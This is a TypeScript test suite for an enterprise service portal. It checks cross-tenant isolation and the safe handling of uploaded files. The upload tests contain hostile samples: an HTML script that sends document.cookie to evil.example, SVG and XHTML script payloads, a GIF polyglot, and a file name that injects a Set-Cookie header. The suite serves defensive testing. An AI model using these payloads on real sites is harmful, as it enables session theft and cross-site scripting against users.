/** Somebody of another enterprise, signed in and with every id of the first one in hand (T5): nothing of it is read, named or changed. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { demoUserId } from '../demo'
import { type Caller, signedIn } from '../modules/desk/test-people'
import { startTestPortal, type TestPortal } from './test-portal'

let portal: TestPortal
let intruder: Caller & { userId: string }
let personal: Caller & { userId: string }
const known: Record<string, string> = {}

beforeAll(async () => {
  portal = await startTestPortal()
  intruder = await signedIn(portal, 'chenli')
  personal = await signedIn(portal, 'lixiang')
  const one = async (name: string, text: string) => {
    const { rows } = await portal.database.pool.query(text)
    expect(rows.length, text).toBeGreaterThan(0)
    known[name] = String(Object.values(rows[0] ?? {})[0])
  }
  await one('enterprise', `select enterprise_id from account where number = '${demoUserId('zhoumin')}'`)
  const { enterprise } = known
  await one('contract', `select id from contract where enterprise_id = '${enterprise}' and delivery_state = 30 limit 1`)
  await one('code', `select code from contract where id = '${known.contract}'`)
  await one('device', `select product_num from machine where contract_id = '${known.contract}' limit 1`)
  await one(
    'order',
    `select id from aftersale_order where enterprise_id = '${enterprise}' and state = 'finished' limit 1`,
  )
  await one('orderNum', `select order_num from aftersale_order where id = '${known.order}'`)
  await one('purchase', `select id from mall_order where enterprise_id = '${enterprise}' and state = 'quoted' limit 1`)
  await one('type', `select id from dictionary_item where code = 'fault' and kind = 'aftersaleType'`)
})
afterAll(() => portal.stop())

const orders = '/aftersale-web-service/web-api/aftersale'
/** What the steps of an order would change: the orders themselves, and how much stands in their records. */
const everything = `select (select md5(string_agg(o::text, ' ' order by id)) from aftersale_order o) as orders,
  (select md5(string_agg(m::text, ' ' order by id)) from mall_order m) as purchases,
  (select count(*) from ticket) as tickets, (select count(*) from aftersale_log) as logs,
  (select count(*) from mall_order_event) as steps, (select count(*) from audit_entry) as acts`

describe.each([['an enterprise', () => intruder] as const, ['a personal account', () => personal] as const])(
  'the sign-in of %s',
  (_name, who) => {
    it('[T5] finds nothing of another enterprise in any list, whichever id it asks with', async () => {
      const { enterprise, order, code, orderNum } = known
      const words = [enterprise, order, known.contract, code, orderNum, known.device, known.purchase]
      for (const url of [
        `/web-api/contract/v1/list?customerId=${enterprise}&pageSize=999`,
        `/web-api/contract/v1/list?searchKey=${code}`,
        `/digital-delivery-web-service/web-api/contract/v1/list?tenantId=${enterprise}&pageNum=1&pageSize=999`,
        `${orders}/v1/list?tenantId=${enterprise}&pageNum=1&pageSize=999`,
        `${orders}/v1/list?orderIds=${order}&pageNum=1&pageSize=999`,
        `/web-api/purchase/v1/record/list?customerId=${enterprise}&limit=100`,
        '/web-api/mall/v1/order/list?limit=100',
        `/fs/m-api/relation/v1/relation?organizationUuid=${enterprise}`,
        `/fs/m-api/organization/v1/extend/list?organizationUuid=${enterprise}&outAsTree=1&includeChildren=1`,
        `/fs/m-api/organization/v1/cache/user/list?organizationUuid=${enterprise}&departmentUuid=&version=-1&onlyMain=0&currentPage=1&pageSize=1000&kewWord=`,
        `/open-api/account/v1/page/list?parentOrganizationId=${enterprise}&includeAllSubLevels=1&includeMountAccount=1&accountType=0&accountValidState=1&accountExpireState=0&limit=999999&offset=0`,
        `/fs/m-api/organization/v1/user/organization/list?userUuid=${demoUserId('zhoumin')}`,
        '/fs/m-api/ab/v1/list?currentPage=1&pageSize=1000&keyword=',
      ]) {
        const { response, status } = await who().get(url)
        expect(status, url).toBeLessThan(500)
        for (const word of words) {
          // What was asked with may stand in the answer's own words; what it stands for may not.
          if (word && !url.includes(word)) expect(response.body, `${url}: ${word}`).not.toContain(word)
        }
        expect(response.body, url).not.toContain('锦纶新材料')
      }
    })

    it('[T5] changes nothing of it', async () => {
      const { order, purchase, contract, device, type } = known
      const stored = async () => (await portal.database.pool.query(everything)).rows
      const before = await stored()
      for (const [url, payload] of [
        [`${orders}/v1/${order}/rate`, { score: 1, text: '' }],
        [`${orders}/v1/${order}/reopen`, { text: '重新处理' }],
        [`${orders}/v1/${order}/supplement`, { text: '补充' }],
        [`${orders}/v1/${order}/withdraw`, {}],
        [`/web-api/mall/v1/order/${purchase}/confirm`, {}],
        [`/web-api/mall/v1/order/${purchase}/cancel`, {}],
        [`/web-api/mall/v1/order/${purchase}/complete`, {}],
        ['/open-api/auth/v1/ticket', { accountId: demoUserId('zhoumin') }],
        [
          `${orders}/v1/save`,
          {
            contractId: contract,
            productNum: device,
            aftersaleTypeId: type,
            contactPhone: '13800000003',
            problemDescription: '别人的设备',
            imageUrl: '',
          },
        ],
      ] as const) {
        const { status, code } = await who().send('POST', url, payload)
        expect([400, 403, 404, 409], `${url}: ${status}`).toContain(status)
        expect(code).not.toBe(0)
      }
      expect(await stored()).toEqual(before)
    })
  },
)

describe('an upload that is meant to run', () => {
  const send = async (name: string, content: Buffer | string) => {
    const boundary = 'weft-boundary'
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/html\r\n\r\n`,
      ),
      Buffer.from(content),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ])
    const reply = await portal.browser().send<{ file: { fileAccessPath: string } }>({
      method: 'POST',
      url: '/open-api/v1/file/upload',
      payload,
      headers: { authorization: intruder.authorization, 'content-type': `multipart/form-data; boundary=${boundary}` },
    })
    const address = reply.data[0]?.file?.fileAccessPath
    if (!address) return { status: reply.status }
    const served = await portal.browser().send({ url: new URL(address).pathname })
    return { status: reply.status, headers: served.response.headers }
  }
  const html = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>'

  it.each([
    ['page.html', html],
    ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'],
    ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
    ['style.xml', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'],
    ['plain', html],
    ['page.html.txt', html],
  ])('[T15] %s is kept as a download of unknown type', async (name, content) => {
    const { status, headers } = await send(name, content)
    expect(status).toBe(200)
    expect(headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'x-content-type-options': 'nosniff',
    })
    expect(headers?.['content-disposition']).toMatch(/^attachment;/)
    expect(headers?.['content-security-policy']).toContain('sandbox')
  })

  it.each([
    ['report.pdf', html],
    ['photo.png', html],
    ['photo.jpg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['photo.gif', `GIF89a/*${html}*/`],
    ['clip.mp4', html],
    ['a.exe', 'MZ'],
    ['a.js', 'alert(1)'],
  ])('[T15] %s that is something else is refused', async (name, content) => {
    const { status } = await send(name, content)
    expect(status).toBe(415)
  })

  it('[T15] a PDF with a page in it is a PDF to every browser', async () => {
    const { status, headers } = await send('both.pdf', `%PDF-1.7\n${html}\n%%EOF`)
    expect(status).toBe(200)
    expect(headers).toMatchObject({ 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' })
    expect(headers?.['content-security-policy']).toMatch(/default-src 'none'/)
  })

  it('[T24] a name cannot write a header', async () => {
    const { status, headers } = await send('a\\r\\nSet-Cookie: x=1;.txt', 'text')
    expect(status).toBe(200)
    expect(headers?.['set-cookie']).toBeUndefined()
    expect(String(headers?.['content-disposition'])).not.toMatch(/[\r\n]/)
  })
})
